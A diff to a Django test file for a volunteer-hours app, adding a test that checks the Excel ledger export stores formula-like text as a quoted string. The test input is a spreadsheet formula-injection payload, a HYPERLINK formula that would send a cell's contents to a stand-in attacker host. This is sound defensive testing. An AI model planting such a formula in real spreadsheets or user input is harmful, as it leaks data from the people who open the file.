@@ -6,6 +6,7 @@ from __future__ import annotations
 import io
 import uuid
 from datetime import timedelta
+from decimal import Decimal
 
 import pytest
 from django.urls import reverse
@@ -287,6 +288,17 @@ def test_the_excel_export_has_the_hours_the_projects_and_the_ledger(client, vw):
     bad = client.get(reverse("volunteers:report"), {"since": "2026-05-12", "until": "2026-01-01"})
     assert bad.status_code == 400
     assert client.get(reverse("volunteers:report-xlsx"), {"since": "nonsense"}).status_code == 200
+
+
+def test_text_that_looks_like_a_formula_stays_text_in_the_excel(client, vw):
+    formula = '=HYPERLINK("http://evil.example/?"&B2,"点击查看")'
+    signup = checked_in(vw)
+    services.hours_correct(signup=signup, actor=vw.leader_a, hours=Decimal(3), reason=formula)
+    client.force_login(vw.leader_a)
+    wb = load_workbook(io.BytesIO(client.get(reverse("volunteers:report-xlsx")).content))
+    reason = wb["Ledger"].cell(row=3, column=8)
+    assert (reason.data_type, reason.value) == ("s", formula)  # "f" would be a live formula
+    assert reason.quotePrefix
 
 
 def test_the_leader_puts_a_member_who_came_unannounced_on_the_roll(client, vw):
